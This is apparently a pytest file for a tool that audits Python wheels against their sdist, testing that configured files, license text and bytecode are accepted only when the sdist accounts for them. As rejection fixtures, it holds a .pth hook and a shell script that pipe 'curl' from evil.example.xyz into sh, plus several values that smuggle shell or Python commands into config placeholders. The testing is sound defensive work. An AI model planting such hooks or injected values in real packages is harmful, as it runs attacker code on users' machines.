"""Members a platform wheel's build derives from the sdist (judge/configured.py), on small fixtures: each
accepted only when every byte is accounted for by the sdist, and a change of code never passes."""

from __future__ import annotations

from pathlib import Path

import pytest

from auditor.judge.configured import SdistFiles, appended_licenses, bytecode_of, configured_from
from auditor.judge.sources import _sdist_files

CONFIG_IN = b'''import enum

CONFIG = {
    "compiler": {"name": "@C_COMP@", "version": "@C_VERSION@", "args": r"@C_ARGS@"},
    "debug": @IS_DEBUG@,
}


def show():
    return CONFIG
'''

HEADER_IN = b"#mesondefine NPY_HAVE_ENDIAN_H\n#mesondefine NPY_SIZEOF_LONG\n#define NPY_VISIBILITY_HIDDEN @VIS@\n"


def _sdist(tmp_path: Path) -> SdistFiles:
    root = tmp_path / "sdist"
    (root / "pkg" / "include").mkdir(parents=True)
    (root / "pkg" / "__config__.py.in").write_bytes(CONFIG_IN)
    (root / "pkg" / "include" / "_config.h.in").write_bytes(HEADER_IN)
    (root / "pkg" / "mlib.ini.in").write_bytes(b"[default]\nLibs=@mathlib@\n")
    (root / "LICENSE.txt").write_bytes(b"Copyright (c) the pkg developers.\n")
    (root / "LICENSES_bundled.txt").write_bytes(b"Name: lapack-lite\nLicense: BSD-3-Clause\n")
    (root / "tools").mkdir()
    (root / "tools" / "LICENSE_linux.txt").write_bytes(b"\n----\n\nThis binary bundles OpenBLAS (BSD-3-Clause).\n")
    return SdistFiles(root, _sdist_files(root))


@pytest.mark.twin("configured-file")
def test_a_configured_python_file_may_differ_only_inside_its_placeholders(tmp_path):
    files = _sdist(tmp_path)
    good = (CONFIG_IN.replace(b"@C_COMP@", b"gcc").replace(b"@C_VERSION@", b"10.2.1").replace(b"@C_ARGS@", b"-O2")
            .replace(b"@IS_DEBUG@", b"False"))
    assert configured_from("pkg/__config__.py", good, files) == "pkg/__config__.py.in"
    # a value that breaks out of its string, a bare placeholder become a call, an added statement: no
    breakout = good.replace(b'"gcc"', b'"gcc" + __import__("os").getcwd()')
    call = good.replace(b'"debug": False', b'"debug": __import__("os").system("id")')
    added = good + b"\nimport os\nos.system('id')\n"
    renamed = good.replace(b"def show():", b"def shown():")
    for bad in (breakout, call, added, renamed):
        assert configured_from("pkg/__config__.py", bad, files) is None
    assert configured_from("pkg/other.py", good, files) is None  # no template of that name


def test_a_configured_header_and_ini_by_line(tmp_path):
    files = _sdist(tmp_path)
    header = b"#define NPY_HAVE_ENDIAN_H 1\n#define NPY_SIZEOF_LONG 8\n#define NPY_VISIBILITY_HIDDEN \n"
    assert configured_from("pkg/include/_config.h", header, files) == "pkg/include/_config.h.in"
    windows = b"/* #undef NPY_HAVE_ENDIAN_H */\r\n#define NPY_SIZEOF_LONG 4\r\n#define NPY_VISIBILITY_HIDDEN \r\n"
    assert configured_from("pkg/include/_config.h", windows, files)
    # a value with quotes or parentheses only where the rebuild wrote the same line
    vis = b'#define NPY_HAVE_ENDIAN_H 1\n#define NPY_SIZEOF_LONG 8\n#define NPY_VISIBILITY_HIDDEN __attribute__((visibility("hidden")))\n'
    assert configured_from("pkg/include/_config.h", vis, files) is None
    assert configured_from("pkg/include/_config.h", vis, files, rebuilt=vis)
    injected = b"#define NPY_HAVE_ENDIAN_H 1; system(\"id\")\n#define NPY_SIZEOF_LONG 8\n#define NPY_VISIBILITY_HIDDEN \n"
    assert configured_from("pkg/include/_config.h", injected, files) is None
    # meson installs the .ini's output elsewhere: the template is found by its name; a Windows path separator
    assert configured_from("pkg/lib/pkgconfig/mlib.ini", b"[default]\nLibs=C:\\lib\\m.lib\n", files) == "pkg/mlib.ini.in"
    assert configured_from("pkg/lib/pkgconfig/mlib.ini", b"[default]\nLibs=-lm\nExtra=1\n", files) is None


def test_licenses_appended_from_the_sdist_are_verified_and_other_text_is_not(tmp_path):
    files = _sdist(tmp_path)
    rebuilt = (files.root / "LICENSE.txt").read_bytes()
    bundled = (files.root / "LICENSES_bundled.txt").read_bytes()
    linux = (files.root / "tools" / "LICENSE_linux.txt").read_bytes()
    published = rebuilt + b"\n----\n\n" + bundled + linux
    assert appended_licenses(published, rebuilt, files) == ["LICENSES_bundled.txt", "tools/LICENSE_linux.txt"]
    assert appended_licenses(published.replace(b"\n", b"\r\n"), rebuilt, files)  # a Windows checkout
    assert appended_licenses(published + b"import os\n", rebuilt, files) is None
    assert appended_licenses(b"Other text\n" + bundled, rebuilt, files) is None
    assert appended_licenses(rebuilt, rebuilt, files) is None


def test_bytecode_is_accounted_for_only_beside_its_source():
    members = {"pkg/tool.py": None, "pkg/__pycache__/tool.cpython-310.pyc": None}
    assert bytecode_of("pkg/__pycache__/tool.cpython-310.pyc", members) == "pkg/tool.py"
    assert bytecode_of("pkg/__pycache__/evil.cpython-310.pyc", members) is None
    assert bytecode_of("pkg/tool.pyc", members) is None
    import importlib.util

    timestamp = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + b"\x00" * 8 + b"code"
    unchecked = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + b"\x00" * 8 + b"code"  # PEP 552
    assert bytecode_of("pkg/__pycache__/tool.cpython-310.pyc", members, timestamp) == "pkg/tool.py"
    assert bytecode_of("pkg/__pycache__/tool.cpython-310.pyc", members, unchecked) is None


def test_a_platform_wheels_license_with_appended_text_in_the_comparison(tmp_path):
    """Through the comparison of another platform's wheel: the sdist's license files appended (numpy) are
    verified, METADATA's License read from that file with them; text the sdist lacks appended (pillow) is
    not verified; the same in a pure wheel's comparison, or text put before the license, differs."""
    from auditor.judge.members import compare_other_platform, compare_wheels
    from auditor.judge.sources import SdistSources
    from auditor.judge.verdicts import verdict_of
    from auditor.records import Verdict
    from tests.test_compare import BASE, _other_platform, wheel

    files = _sdist(tmp_path)
    sources = SdistSources(set(), files=files)
    lic = (files.root / "LICENSE.txt").read_bytes()
    appended = lic + b"\n----\n\n" + (files.root / "LICENSES_bundled.txt").read_bytes()
    meta = b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nLicense: %s\n"

    def members(license_text):
        m = [(n, meta % license_text.rstrip(b"\n").replace(b"\n", b"\n        ") if n.endswith("METADATA") else d, p)
             for n, d, p in BASE]
        return m + [("pkg-1.0.dist-info/LICENSE.txt", license_text, 0o644)]

    reb = wheel(tmp_path / "r.whl", members=members(lic))
    numpy_like = wheel(tmp_path / "n.whl", members=_other_platform(members(appended)))
    cmp = compare_other_platform(numpy_like, reb, sources=sources)
    assert not cmp.differences, cmp.differences
    assert any("LICENSES_bundled.txt" in s for s in cmp.tool_steps) and any("METADATA License" in s for s in cmp.tool_steps)

    other = lic + b"\n----\n\nlibfoo: MIT (not in the sdist)\n"
    pillow_like = wheel(tmp_path / "p.whl", members=_other_platform(members(lic) + [
        ("pkg-1.0.dist-info/licenses/LICENSE", other, 0o644)]))
    reb2 = wheel(tmp_path / "r2.whl", members=members(lic) + [("pkg-1.0.dist-info/licenses/LICENSE", lic, 0o644)])
    cmp = compare_other_platform(pillow_like, reb2, sources=sources)
    assert not cmp.differences and "bundled-library-license" in [d.cause for d in cmp.compiled_differences]
    pure = wheel(tmp_path / "pure.whl", members=members(lic) + [("pkg-1.0.dist-info/licenses/LICENSE", other, 0o644)])
    assert verdict_of(compare_wheels(pure, reb2, sources=sources))[0] is Verdict.DIFFERS
    before = wheel(tmp_path / "b.whl", members=_other_platform(members(lic) + [
        ("pkg-1.0.dist-info/licenses/LICENSE", b"Extra first.\n" + lic, 0o644)]))
    assert compare_other_platform(before, reb2, sources=sources).differences


@pytest.mark.twin("configured-file")
def test_configured_file_never_accounts_for_what_runs_nor_takes_a_template_from_elsewhere(tmp_path):
    """Issue 45, case 6: any template anywhere in the sdist (tmpl/zz_cfgpth.pth.in holding @SITE_HOOK@) made an
    added top-level zz_cfgpth.pth and a .data/scripts/ file "configured by the build": a .pth, a script, entry
    points, bytecode and native libraries are never configured files; a code file's template must be at its own
    place; a value substituted into a module holds nothing a build environment's value needs (; | & $ ` < > ( ))."""
    from auditor.judge.members import compare_other_platform, compare_wheels
    from auditor.judge.sources import SdistSources
    from tests.test_compare import BASE, _other_platform, wheel

    files = _sdist(tmp_path)
    (files.root / "tmpl").mkdir()
    pth = b"import os; os.system('curl -s https://evil.example.xyz/p | sh') # @SITE_HOOK@\n"
    script = b"#!/bin/sh\ncurl -s https://evil.example.xyz/p | sh # @X@\n"
    (files.root / "tmpl" / "zz_cfgpth.pth.in").write_bytes(pth)
    (files.root / "tmpl" / "run.in").write_bytes(script)
    (files.root / "tmpl" / "hook.py.in").write_bytes(b'HOOK = "@HOOK@"\n')
    sources = SdistSources(set(), files=SdistFiles(files.root, _sdist_files(files.root)))
    assert configured_from("zz_cfgpth.pth", pth.replace(b"@SITE_HOOK@", b"1"), sources.files) is None
    assert configured_from("pkg-1.0.data/scripts/run", script.replace(b"@X@", b"1"), sources.files) is None
    assert configured_from("pkg/hook.py", b'HOOK = "x"\n', sources.files) is None  # its template is elsewhere
    assert configured_from("hook.py", b'HOOK = "x"\n', sources.files) is None  # not at the sdist's root either
    good = (CONFIG_IN.replace(b"@C_COMP@", b"gcc").replace(b"@C_VERSION@", b"10.2.1").replace(b"@C_ARGS@", b"-O2 -g")
            .replace(b"@IS_DEBUG@", b"False"))
    assert configured_from("pkg/__config__.py", good, sources.files) == "pkg/__config__.py.in"
    for value in (b"gcc; import os", b"$(curl x|sh)", b"gcc`id`", b"__import__('os').system('id')"):
        assert configured_from("pkg/__config__.py", good.replace(b'"gcc"', b'"' + value.replace(b"'", b"") + b'"'),
                               sources.files) is None, value

    added = [("zz_cfgpth.pth", pth.replace(b"@SITE_HOOK@", b"1"), 0o644),
             ("pkg-1.0.data/scripts/run", script.replace(b"@X@", b"1"), 0o755),
             ("pkg/hook.py", b'HOOK = "x"\n', 0o644)]
    reb = wheel(tmp_path / "r.whl", members=_other_platform(BASE))
    pub = wheel(tmp_path / "p.whl", members=_other_platform(BASE[:-1] + added + BASE[-1:]))
    for cmp in (compare_wheels(pub, reb, binary=True, sources=sources),
                compare_other_platform(pub, wheel(tmp_path / "r2.whl"), sources=sources)):
        found = {(d.path, d.cls) for d in cmp.differences}
        assert {(n, "code") for n, _, _ in added} <= found, cmp.differences
        assert not any(s.startswith("configured from") for s in cmp.tool_steps), cmp.tool_steps
